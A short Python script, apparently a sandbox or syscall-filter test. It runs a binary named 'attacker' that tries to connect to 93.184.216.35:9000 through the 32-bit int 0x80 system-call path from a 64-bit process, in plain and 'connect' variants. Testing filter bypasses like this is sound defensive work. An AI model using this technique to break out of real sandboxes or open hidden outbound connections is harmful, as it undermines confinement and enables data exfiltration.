"""System calls of 32-bit programs, made by one of 64 bits: they have other numbers."""
import subprocess

for way in ("int80", "int80-connect"):
    subprocess.run(["./attacker", "connect", way, "93.184.216.35:9000", way])
